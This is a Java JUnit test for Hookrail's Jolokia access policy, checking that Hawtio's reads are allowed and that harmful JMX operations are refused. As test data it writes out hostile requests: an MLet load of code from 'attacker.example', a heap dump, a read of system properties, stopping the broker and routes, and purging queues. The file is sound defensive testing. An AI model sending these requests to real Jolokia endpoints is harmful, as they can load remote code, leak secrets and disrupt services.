package io.hookrail.ops;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.List;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.hookrail.support.GoldenEvents;
import io.hookrail.support.HookrailInstance;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

import static io.hookrail.ops.HttpAnswers.MAPPER;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Jolokia on the management port over real HTTP, under {@code jolokia-access.xml}: what Hawtio needs is answered,
 * what could harm the JVM, the broker or the flows, or leak a secret, is refused.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class JolokiaAccessTest {

    static final String LOOPBACK_PAGE = "http://127.0.0.1:8090";
    static final String ROUTE = "org.apache.camel:context=hookrail,type=routes,name=\"order-fulfilment\"";

    final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    HookrailInstance hookrail;
    String jolokia;

    @BeforeAll
    void start() {
        hookrail = AdminTestUsers.apply(HookrailInstance.builder()).start();
        jolokia = hookrail.managementUrl() + "/observe/jolokia";
    }

    @AfterAll
    void stop() {
        if (hookrail != null) {
            hookrail.close();
        }
    }

    @Test
    void aCamelRouteMBeanIsRead() throws Exception {
        JsonNode answer = post(read(ROUTE, "State"));
        assertEquals(200, answer.path("status").asInt(), answer.toString());
        assertEquals("Started", answer.path("value").asText());
    }

    @Test
    void theRouteDiagramOperationAndHookrailsOwnAreAllowed() throws Exception {
        JsonNode diagram = post(exec(ROUTE, "dumpRouteAsXml()"));
        assertEquals(200, diagram.path("status").asInt(), diagram.toString());
        assertTrue(diagram.path("value").asText().contains("<idempotentConsumer"), diagram.toString());

        JsonNode depth = post(exec(hookrail.serviceMBean("DeadLetterQueues").toString(), "dlqDepth", "refund"));
        assertEquals(200, depth.path("status").asInt(), depth.toString());
        assertEquals(0, depth.path("value").asInt());
        JsonNode signed = post(exec(hookrail.serviceMBean("DeadLetterQueues").toString(),
                "dlqDepth(java.lang.String)", "refund"));
        assertEquals(200, signed.path("status").asInt(), signed.toString());

        // as Hawtio names an operation: with its signature
        JsonNode verified = post(exec(hookrail.serviceMBean("AuditTrail").toString(), "verifyChain()"));
        assertEquals(200, verified.path("status").asInt(), verified.toString());
        assertTrue(verified.path("value").asText().contains("\"valid\":true"), verified.toString());
    }

    @Test
    void dangerousOperationsAreRefused() throws Exception {
        String context = "org.apache.camel:context=hookrail,type=context,name=\"hookrail\"";
        String broker = "org.apache.activemq:type=Broker,brokerName=hookrail-" + URI.create(hookrail.brokerUrl()).getPort();
        String flowQueue = broker + ",destinationType=Queue,destinationName=Consumer.refund.VirtualTopic.refund.requested";
        for (ObjectNode request : List.of(
                // the JVM: diagnostic commands load agents and write files, an MLet loads code, a heap dump holds data
                exec("com.sun.management:type=DiagnosticCommand", "vmSystemProperties()"),
                exec("DefaultDomain:type=MLet", "getMBeansFromURL", "http://attacker.example/x.mlet"),
                exec("com.sun.management:type=HotSpotDiagnostic", "dumpHeap", "/tmp/heap.hprof", true),
                // and any other operation the policy does not list
                exec("java.lang:type=Memory", "gc()"),
                // Camel: a message past the webhooks' signature check, the context stopped, a route rewritten
                exec(context, "sendStringBody", "direct:order-fulfilment", "{}"),
                exec(context, "stop()"),
                exec(ROUTE, "updateRouteFromXml", "<route/>"),
                // the broker stopped, a flow queue purged or fed
                exec(broker, "stop()"),
                exec(flowQueue, "purge()"),
                exec(flowQueue, "sendTextMessage(java.lang.String)", "{}"),
                // no attribute is written; system properties may hold secrets given as -D
                write("java.lang:type=Memory", "Verbose", true),
                write(ROUTE, "TracingEnabled", true),
                read("java.lang:type=Runtime", "SystemProperties"))) {
            JsonNode answer = post(request);
            assertEquals(403, answer.path("status").asInt(), request + " -> " + answer);
            assertFalse(answer.has("value"), answer.toString());
        }
        assertEquals("Started", hookrail.camelContext().getRouteController().getRouteStatus("order-fulfilment").name());
    }

    @Test
    void aPageOfAnotherSiteAndARequestWithoutOriginAreRefusedWith403ProblemJson() throws Exception {
        String version = MAPPER.createObjectNode().put("type", "version").toString();
        for (HttpRequest request : List.of(
                request(version).header("Origin", "http://attacker.example").build(),
                request(version).header("Origin", "null").build(),
                // another loopback page than Hawtio's: the origin is pinned, port included
                request(version).header("Origin", "http://127.0.0.1:8091").build(),
                request(version).header("Origin", "http://localhost:8090").build(),
                // a Referer is not an origin
                request(version).header("Referer", LOOPBACK_PAGE + "/hawtio/").build(),
                // a cross-site <img> or link sends neither Origin nor, with no-referrer, Referer; and GET is refused
                HttpRequest.newBuilder(URI.create(jolokia + "/exec/" + ROUTE.replace("\"", "%22") + "/stop()")).build(),
                HttpRequest.newBuilder(URI.create(jolokia + "/version")).build(),
                HttpRequest.newBuilder(URI.create(jolokia + "/version")).header("Origin", LOOPBACK_PAGE).build(),
                // POST only to Jolokia's path itself
                HttpRequest.newBuilder(URI.create(jolokia + "/exec/" + ROUTE.replace("\"", "%22") + "/stop()"))
                        .header("Origin", LOOPBACK_PAGE).POST(HttpRequest.BodyPublishers.noBody()).build(),
                request(version).build())) {
            HttpResponse<String> response = http.send(request, HttpResponse.BodyHandlers.ofString());
            assertEquals(403, response.statusCode(), request + " -> " + response.body());
            assertEquals(HttpAnswers.PROBLEM_JSON, response.headers().firstValue("Content-Type").orElse(""));
            JsonNode answer = MAPPER.readTree(response.body());
            assertEquals(403, answer.path("status").asInt(), response.body());
            assertTrue(answer.path("type").asText().startsWith("urn:hookrail:problem:jolokia-"), response.body());
            assertFalse(answer.has("value"), request + " -> " + response.body());
        }
        HttpResponse<String> fromHawtio = http.send(request(version).header("Origin", LOOPBACK_PAGE).build(),
                HttpResponse.BodyHandlers.ofString());
        assertEquals(200, fromHawtio.statusCode(), fromHawtio.body());
        assertTrue(MAPPER.readTree(fromHawtio.body()).has("value"), fromHawtio.body());
        assertEquals("Started", hookrail.camelContext().getRouteController().getRouteStatus("order-fulfilment").name());
    }

    @Test
    void browsingPersonalDataAndStartingOrStoppingRoutesAreOperatorActionsOffByDefault() throws Exception {
        String broker = "org.apache.activemq:type=Broker,brokerName=hookrail-" + URI.create(hookrail.brokerUrl()).getPort();
        String flowQueue = broker + ",destinationType=Queue,destinationName=Consumer.refund.VirtualTopic.refund.requested";
        String deadLetters = broker + ",destinationType=Queue,destinationName=DLQ.order-fulfilment";
        for (ObjectNode request : List.of(
                exec(flowQueue, "browse()"),
                exec(deadLetters, "browseMessages()"),
                exec(deadLetters, "browseAsTable()"),
                exec(hookrail.serviceMBean("DeadLetterQueues").toString(), "listDeadLetters", "", ""),
                exec(ROUTE, "stop()"),
                exec(ROUTE, "start()"),
                exec(ROUTE, "suspend()"))) {
            HttpResponse<String> response = http.send(request(request.toString()).header("Origin", LOOPBACK_PAGE)
                    .build(), HttpResponse.BodyHandlers.ofString());
            assertEquals(403, response.statusCode(), request + " -> " + response.body());
            JsonNode answer = MAPPER.readTree(response.body());
            assertEquals("urn:hookrail:problem:jolokia-operator-action", answer.path("type").asText(), response.body());
        }
        // one forbidden request in a bulk refuses the bulk
        HttpResponse<String> bulk = http.send(request(MAPPER.createArrayNode().add(read(ROUTE, "State"))
                .add(exec(ROUTE, "stop()")).toString()).header("Origin", LOOPBACK_PAGE).build(),
                HttpResponse.BodyHandlers.ofString());
        assertEquals(403, bulk.statusCode(), bulk.body());
        // the queue's statistics stay readable
        JsonNode size = post(read(flowQueue, "QueueSize"));
        assertEquals(200, size.path("status").asInt(), size.toString());
        assertEquals("Started", hookrail.camelContext().getRouteController().getRouteStatus("order-fulfilment").name());
    }

    @Test
    void noReadableAttributeHoldsASecret() throws Exception {
        ObjectNode readAll = MAPPER.createObjectNode().put("type", "read").put("mbean", "*:*");
        readAll.putObject("config").put("ignoreErrors", true);
        JsonNode everything = post(readAll);
        assertEquals(200, everything.path("status").asInt(), everything.toString());
        String text = everything.toString();
        for (String secret : List.of(GoldenEvents.SHOP_SECRET, GoldenEvents.PAYMENTS_SECRET, GoldenEvents.CRM_SECRET,
                GoldenEvents.SUPPORT_SECRET, AdminTestUsers.OPERATOR, AdminTestUsers.APPROVER, AdminTestUsers.VIEWER)) {
            assertFalse(text.contains(secret), "Jolokia shows " + secret);
        }
    }

    /** A POST from a page on loopback, as Hawtio's proxy forwards it. */
    JsonNode post(ObjectNode request) throws IOException, InterruptedException {
        HttpResponse<String> response = http.send(request(request.toString()).header("Origin", LOOPBACK_PAGE).build(),
                HttpResponse.BodyHandlers.ofString());
        return MAPPER.readTree(response.body());
    }

    static ObjectNode read(String mbean, String attribute) {
        return MAPPER.createObjectNode().put("type", "read").put("mbean", mbean).put("attribute", attribute);
    }

    static ObjectNode write(String mbean, String attribute, Object value) {
        return read(mbean, attribute).put("type", "write").putPOJO("value", value);
    }

    static ObjectNode exec(String mbean, String operation, Object... arguments) {
        ObjectNode request = MAPPER.createObjectNode().put("type", "exec").put("mbean", mbean).put("operation", operation);
        request.set("arguments", MAPPER.valueToTree(arguments));
        return request;
    }

    HttpRequest.Builder request(String json) {
        return HttpRequest.newBuilder(URI.create(jolokia)).timeout(Duration.ofSeconds(30))
                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(json));
    }

}
